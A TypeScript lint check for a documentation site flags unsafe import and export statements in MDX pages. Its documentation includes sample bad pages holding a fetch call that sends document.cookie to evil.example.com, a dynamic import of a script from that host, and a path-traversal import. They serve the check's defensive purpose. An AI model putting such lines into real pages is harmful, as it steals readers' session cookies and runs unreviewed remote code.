import { parse, type Node as AcornNode } from 'acorn';
import type { Nodes } from 'mdast';
import { defineCheck } from '../engine/check.ts';
import { allowed, allowlist, BUILT_IN_IMPORTS, CONFIG_FILE } from '../security/mdx-allowlist.ts';

/** An ESM block in MDX: a top-level paragraph starting with `import` or `export` (it ends at a blank line). */
const ESM_START = /^(?:import|export)(?=[\s{*])/;

interface EsNode extends AcornNode {
  [key: string]: unknown;
}

/** A value that is only data: literals, template strings without `${}`, arrays and plain objects of them. */
function isData(node: EsNode | null | undefined, depth = 0): boolean {
  if (!node || depth > 64) return false;
  switch (node.type) {
    case 'Literal':
      return true;
    case 'TemplateLiteral':
      return (node['expressions'] as unknown[]).length === 0;
    case 'UnaryExpression':
      return ['-', '+', '!'].includes(node['operator'] as string) && (node['argument'] as EsNode).type === 'Literal';
    case 'Identifier':
      return node['name'] === 'undefined';
    case 'ArrayExpression':
      return (node['elements'] as Array<EsNode | null>).every((e) => e !== null && isData(e, depth + 1));
    case 'ObjectExpression':
      return (node['properties'] as EsNode[]).every(
        (p) => p.type === 'Property' && p['kind'] === 'init' && !p['computed'] && !p['method'] && isData(p['value'] as EsNode, depth + 1),
      );
    default:
      return false;
  }
}

/** Any `import()` inside a node. */
function findDynamicImport(node: unknown, depth = 0): EsNode | undefined {
  if (!node || typeof node !== 'object' || depth > 200) return undefined;
  if ((node as EsNode).type === 'ImportExpression') return node as EsNode;
  for (const value of Object.values(node)) {
    const found = Array.isArray(value) ? value.map((v) => findDynamicImport(v, depth + 1)).find(Boolean) : findDynamicImport(value, depth + 1);
    if (found) return found;
  }
  return undefined;
}

const ALLOWED_TEXT = `${BUILT_IN_IMPORTS.map((p) => `\`${p}…\``).join(', ')} or a module listed with a reason in ${CONFIG_FILE}`;

export default defineCheck({
  id: 'security/mdx-esm',
  description: `\`.mdx\` pages import only from ${BUILT_IN_IMPORTS.join(', ')} (plus additions with a reason in ${CONFIG_FILE}) and export only data literals.`,
  severity: 'error',
  local: true,
  messages: {
    config: '{error}',
    invalidJs: 'this import/export block is not valid JavaScript ({reason}); the MDX build fails on it',
    importNotAllowed: '`{source}` is not an allowed import; MDX pages import only from {allowed}',
    dynamicImport: '`import()` loads code at run time; import a component statically from an allowed module instead',
    exportDefault: '`export default` replaces the page\'s layout with code; remove it (the theme provides the layout)',
    exportCode: '`export {kind}` ships code; an MDX page exports only data literals. Move the code into a component under src/components/',
    exportNotData: 'an MDX page exports only data (strings, numbers, arrays and objects of them); move code into a component under src/components/',
    notEsm: 'an MDX import/export block may hold only `import` and `export` statements',
  },
  docs: {
    why:
      'In an `.mdx` page, `import` and `export` lines are JavaScript that the build runs and bundles into the site. ' +
      'An import of an arbitrary package, or an exported function, ships code that nobody reviewed as code into every ' +
      'reader\'s browser (and runs it on the build machine). Components under `src/components/` are reviewed as code.',
    fix:
      `Import components only from ${ALLOWED_TEXT}. Move logic into a component under \`src/components/\` and import ` +
      'it. Export only plain data (`export const owners = ["On-call engineer"]`). To allow another module, add it to ' +
      `\`${CONFIG_FILE}\` under \`mdx_imports\` with a reason.`,
    good: [
      {
        title: 'A component, a theme component and exported data',
        path: 'docs/example.mdx',
        source:
          "import Tabs from '@theme/Tabs';\nimport TabItem from '@theme/TabItem';\nimport Checklist from '@site/src/components/Checklist';\n\n" +
          "export const owners = ['On-call engineer', { role: 'Database admin', pager: true }];\n\n# Page\n\nText about import and export.\n",
      },
    ],
    bad: [
      {
        title: 'Imports from outside the allowlist, code in exports',
        path: 'docs/example.mdx',
        source:
          "import fs from 'node:fs';\nimport x from '@site/src/components/../../scripts/evil';\n\n" +
          "export const steal = () => fetch('https://evil.example.com/?c=' + document.cookie);\nexport default function Layout() { return null; }\n\n# Page\n",
        problems: [
          { at: '1:16', message: '`node:fs` is not an allowed import' },
          { at: '2:15', message: 'not an allowed import' },
          { at: '4:22', message: 'exports only data' },
          { at: '5:1', message: '`export default`' },
        ],
      },
      {
        title: 'A dynamic import, a re-export and code that is not JavaScript',
        path: 'docs/example.mdx',
        source: "export const data = { load: import('https://evil.example.com/x.js') };\n\nexport * from 'lodash';\n\nimport { from '@theme/Tabs';\n",
        problems: [
          { at: '1:29', message: '`import()`' },
          { at: '3:15', message: '`lodash` is not an allowed import' },
          { at: '5:15', message: 'is not valid JavaScript' },
        ],
      },
    ],
  },
  checkFile(file, project, report) {
    if (file.status !== 'ok' || !file.tree || !file.path.toLowerCase().endsWith('.mdx')) return;
    const list = allowlist(project);
    let configReported = false;
    for (const block of file.tree.children as Nodes[]) {
      if (block.type !== 'paragraph' && block.type !== 'html') continue;
      const start = block.position?.start.offset;
      const end = block.position?.end.offset;
      if (start === undefined || end === undefined || block.position!.start.column !== 1) continue;
      const code = file.source.slice(start, end);
      if (!ESM_START.test(code)) continue;
      if (list.error && !configReported) {
        configReported = true;
        report(file, { offset: start }, 'config', { error: list.error });
      }
      let program: EsNode;
      try {
        program = parse(code, { ecmaVersion: 'latest', sourceType: 'module' }) as unknown as EsNode;
      } catch (error) {
        const pos = (error as { pos?: number }).pos ?? 0;
        const reason = error instanceof Error ? error.message.replace(/\s*\(\d+:\d+\)$/, '') : String(error);
        report(file, { offset: start + pos }, 'invalidJs', { reason });
        continue;
      }
      const at = (n: EsNode) => ({ offset: start + n.start });
      for (const statement of program['body'] as EsNode[]) {
        const source = statement['source'] as EsNode | null | undefined;
        if (source && typeof source['value'] === 'string' && !allowed(list, source['value'])) {
          report(file, at(source), 'importNotAllowed', { source: String(source['value']), allowed: ALLOWED_TEXT });
        }
        const dynamic = findDynamicImport(statement);
        if (dynamic) report(file, at(dynamic), 'dynamicImport');
        switch (statement.type) {
          case 'ImportDeclaration':
          case 'ExportAllDeclaration':
            break;
          case 'ExportDefaultDeclaration':
            report(file, at(statement), 'exportDefault');
            break;
          case 'ExportNamedDeclaration': {
            const declaration = statement['declaration'] as EsNode | null;
            if (!declaration) break;
            if (declaration.type !== 'VariableDeclaration') {
              report(file, at(declaration), 'exportCode', { kind: declaration.type === 'FunctionDeclaration' ? 'function' : declaration.type === 'ClassDeclaration' ? 'class' : '…' });
              break;
            }
            for (const d of declaration['declarations'] as EsNode[]) {
              const init = d['init'] as EsNode | null;
              if (!isData(init) && !(init && findDynamicImport(init))) {
                report(file, at(init ?? d), 'exportNotData');
              }
            }
            break;
          }
          default:
            report(file, at(statement), 'notEsm');
        }
      }
    }
  },
});
